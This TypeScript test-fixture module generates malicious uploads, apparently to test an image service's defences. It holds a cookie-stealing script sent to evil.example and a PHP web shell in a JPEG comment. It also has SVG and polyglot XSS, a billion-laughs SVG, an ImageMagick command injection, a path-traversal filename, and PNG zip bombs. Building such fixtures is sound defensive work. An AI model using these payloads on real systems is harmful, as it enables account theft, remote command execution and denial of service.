import { crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { picture } from './pictures.ts'

export type Hostile = { about: string; bytes: Uint8Array; name?: string; type?: string }

const text = (content: string) => new TextEncoder().encode(content)
const bytes = (...parts: (Uint8Array | string)[]) =>
  new Uint8Array(
    Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part))),
  )

const PNG = Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a)
const u32 = (value: number) => {
  const made = Buffer.alloc(4)
  made.writeUInt32BE(value)
  return made
}
function chunk(type: string, data: Uint8Array): Uint8Array {
  const body = bytes(type, data)
  return bytes(u32(data.length), body, u32(crc32(body)))
}
type Header = { width: number; height: number; depth?: number; colour?: number; interlaced?: boolean }
const header = ({ width, height, depth = 8, colour = 2, interlaced = false }: Header) =>
  chunk('IHDR', bytes(u32(width), u32(height), Uint8Array.of(depth, colour, 0, 0, interlaced ? 1 : 0)))
const END = chunk('IEND', new Uint8Array())

/** So many zeros, compressed in pieces: the bomb must not cost the test what it should not cost the service. */
function deflatedZeros(count: number): Uint8Array {
  return deflateSync(Buffer.alloc(count), { level: 9 })
}

const png = (of: Header, ...chunks: Uint8Array[]) => bytes(PNG, header(of), ...chunks, END)
const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>'
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`
const LAUGHS = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(50)}"><!ENTITY c "${'&b;'.repeat(50)}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&c;</text></svg>`

/** After the first marker of a JPEG. */
const withSegment = (jpeg: Uint8Array, marker: number, content: Uint8Array) => {
  const size = Buffer.alloc(2)
  size.writeUInt16BE(content.length + 2)
  return bytes(jpeg.slice(0, 2), Uint8Array.of(0xff, marker), size, content, jpeg.slice(2))
}

/** Overwrites the dimensions that a JPEG declares. */
function withDimensions(jpeg: Uint8Array, width: number, height: number): Uint8Array {
  const changed = Buffer.from(jpeg)
  const frame = changed.indexOf(Buffer.of(0xff, 0xc0))
  changed.writeUInt16BE(height, frame + 5)
  changed.writeUInt16BE(width, frame + 7)
  return new Uint8Array(changed)
}

const location = { IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '6/1 10/1 30/1', GPSLongitudeRef: 'E' } }

async function withMetadata(): Promise<Hostile[]> {
  const jpeg = await picture({ width: 300, height: 200 })
  const drawn = sharp(jpeg)
  const marked = { IFD0: { Artist: 'MARKER-artist', Copyright: SCRIPT }, ...location }
  return [
    { about: 'a JPEG with GPS in its EXIF', bytes: await drawn.clone().withExif(marked).jpeg().toBuffer() },
    { about: 'a PNG with GPS in its EXIF', bytes: await drawn.clone().withExif(marked).png().toBuffer() },
    { about: 'a WebP with GPS in its EXIF', bytes: await drawn.clone().withExif(marked).webp().toBuffer() },
    {
      about: 'a JPEG with a colour profile',
      bytes: await drawn.clone().withIccProfile('p3').jpeg().toBuffer(),
    },
    {
      about: 'a JPEG with XMP',
      bytes: withSegment(jpeg, 0xe1, text(`http://ns.adobe.com/xap/1.0/\0${SVG}`)),
    },
    { about: 'a JPEG with a script in its comment', bytes: withSegment(jpeg, 0xfe, text(SCRIPT)) },
    {
      about: 'a JPEG with PHP in its comment',
      bytes: withSegment(jpeg, 0xfe, text('<?php system($_GET[0]) ?>')),
    },
    { about: 'a JPEG that is HTML behind its end', bytes: bytes(jpeg, `<html>${SCRIPT}</html>`) },
    {
      about: 'a JPEG that is a zip behind its end',
      bytes: bytes(jpeg, 'PK\x03\x04', deflateRawSync(text(SVG))),
    },
    {
      about: 'a PNG with a script in a text chunk',
      bytes: bytes(
        PNG,
        header({ width: 1, height: 1 }),
        chunk('tEXt', bytes('Comment\0', SCRIPT)),
        chunk('IDAT', deflateSync(Buffer.alloc(4))),
        END,
      ),
    },
    {
      about: 'a JPEG named like a page',
      bytes: await picture({ colour: 'pink' }),
      name: '../../../index.html',
      type: 'text/html',
    },
    { about: 'a CMYK JPEG', bytes: await drawn.clone().toColourspace('cmyk').jpeg().toBuffer() },
    { about: 'a transparent PNG', bytes: await drawn.clone().ensureAlpha(0.3).png().toBuffer() },
  ]
}

async function tooMuch(): Promise<Hostile[]> {
  const jpeg = await picture({ width: 64, height: 64 })
  const row20k = deflatedZeros(20_000 * 3 + 1)
  const interlaced = { width: 7000, height: 7000, depth: 16, colour: 6, interlaced: true }
  return [
    {
      about: 'a PNG of 20,000 × 20,000 pixels',
      bytes: png({ width: 20_000, height: 20_000 }, chunk('IDAT', row20k)),
    },
    {
      about: 'a PNG that declares 2 billion pixels a side',
      bytes: png({ width: 0x7fffffff, height: 0x7fffffff }, chunk('IDAT', row20k)),
    },
    { about: 'a JPEG that declares 65,500 × 65,500', bytes: withDimensions(jpeg, 65_500, 65_500) },
    { about: 'a JPEG that declares more than it has', bytes: withDimensions(jpeg, 7000, 7000) },
    {
      about: 'a zip bomb in the pixels of a PNG',
      bytes: png({ width: 100, height: 100 }, chunk('IDAT', deflatedZeros(100_000_000))),
    },
    {
      about: 'a zip bomb in a text chunk',
      bytes: png(
        { width: 1, height: 1 },
        chunk('zTXt', bytes('a\0\0', deflatedZeros(100_000_000))),
        chunk('IDAT', deflateSync(Buffer.alloc(4))),
      ),
    },
    {
      about: 'a zip bomb for a colour profile',
      bytes: png(
        { width: 1, height: 1 },
        chunk('iCCP', bytes('a\0\0', deflatedZeros(50_000_000))),
        chunk('IDAT', deflateSync(Buffer.alloc(4))),
      ),
    },
    {
      about: 'an interlaced PNG that must be held whole',
      bytes: png(interlaced, chunk('IDAT', deflatedZeros(1_000_000))),
    },
    {
      about: 'a PNG 16,001 pixels wide and one high',
      bytes: png({ width: 16_001, height: 1 }, chunk('IDAT', deflatedZeros(16_001 * 3 + 1))),
    },
    {
      about: 'a WebP of 16,383 × 16,383',
      bytes: bytes(
        'RIFF',
        Uint8Array.of(0x1a, 0, 0, 0),
        'WEBPVP8L',
        Uint8Array.of(0x0d, 0, 0, 0, 0x2f, 0xfe, 0xbf, 0xff, 0x0f, 0, 0, 0, 0, 0, 0, 0, 0),
      ),
    },
    { about: 'a JPEG of more than 8 MB', bytes: bytes(jpeg, new Uint8Array(8.2 * 1024 * 1024)) },
    {
      about: 'a large progressive JPEG',
      bytes: await sharp({ create: { width: 5000, height: 4000, channels: 3, background: 'teal' } })
        .jpeg({ progressive: true, chromaSubsampling: '4:4:4' })
        .toBuffer(),
    },
    {
      about: 'a progressive JPEG as large as may be',
      bytes: await sharp({ create: { width: 2000, height: 2000, channels: 3, background: 'plum' } })
        .jpeg({ progressive: true, chromaSubsampling: '4:4:4' })
        .toBuffer(),
    },
    {
      about: 'a lossless WebP as large as may be',
      bytes: await sharp({ create: { width: 3000, height: 2000, channels: 4, background: 'navy' } })
        .webp({ lossless: true, effort: 0 })
        .toBuffer(),
    },
    {
      about: 'a photo of 48 megapixels',
      bytes: await sharp({ create: { width: 8000, height: 6000, channels: 3, background: 'olive' } })
        .jpeg()
        .toBuffer(),
    },
  ]
}

async function notPictures(): Promise<Hostile[]> {
  const jpeg = await picture({ width: 200, height: 200, colour: 'gold' })
  return [
    { about: 'nothing at all', bytes: new Uint8Array() },
    { about: 'one byte', bytes: Uint8Array.of(0xff) },
    { about: 'an SVG', bytes: text(SVG), type: 'image/svg+xml' },
    { about: 'an SVG that says it is a JPEG', bytes: text(SVG), type: 'image/jpeg', name: 'photo.jpg' },
    { about: 'a compressed SVG', bytes: gzipSync(text(SVG)) },
    { about: 'an SVG with a billion laughs', bytes: text(LAUGHS) },
    { about: 'a page', bytes: text(`<!doctype html>${SCRIPT}`), type: 'image/png' },
    { about: 'a page that begins like a GIF', bytes: text(`GIF89a/*${SCRIPT}*/=0`) },
    { about: 'a page that begins like a JPEG', bytes: bytes(Uint8Array.of(0xff, 0xd8, 0xff, 0xe0), SCRIPT) },
    { about: 'a page that begins like a PNG', bytes: bytes(PNG, SCRIPT) },
    { about: 'a page that begins like a WebP', bytes: bytes('RIFF\xff\xff\0\0WEBP', SCRIPT) },
    { about: 'half a JPEG', bytes: jpeg.subarray(0, jpeg.length / 2) },
    {
      about: 'a JPEG whose middle is garbage',
      bytes: bytes(
        jpeg.subarray(0, 150),
        Uint8Array.from({ length: 4000 }, (_, n) => (n * 7919) % 251),
      ),
    },
    {
      about: 'a PNG with wrong sums',
      bytes: png(
        { width: 4, height: 4 },
        chunk('IDAT', deflatedZeros(52)).map((byte, at) => (at > 20 ? byte ^ 1 : byte)),
      ),
    },
    { about: 'a TIFF', bytes: await sharp(jpeg).tiff().toBuffer() },
    { about: 'an AVIF', bytes: await sharp(jpeg).avif().toBuffer() },
    { about: 'a GIF', bytes: await sharp(jpeg).gif().toBuffer() },
    { about: 'a PDF', bytes: text('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>') },
    { about: 'a program', bytes: bytes('\x7fELF\x02\x01\x01', new Uint8Array(500)) },
    { about: 'a zip', bytes: bytes('PK\x03\x04', new Uint8Array(100)) },
    {
      about: 'an ImageMagick script',
      bytes: text('push graphic-context\nimage over 0,0 0,0 "|id"\npop graphic-context'),
    },
    { about: 'zeros', bytes: new Uint8Array(100_000) },
  ]
}

/** Forty-eight files that somebody might send in the place of a picture. */
export const hostilePictures = async (): Promise<Hostile[]> =>
  [await notPictures(), await withMetadata(), await tooMuch()].flat()
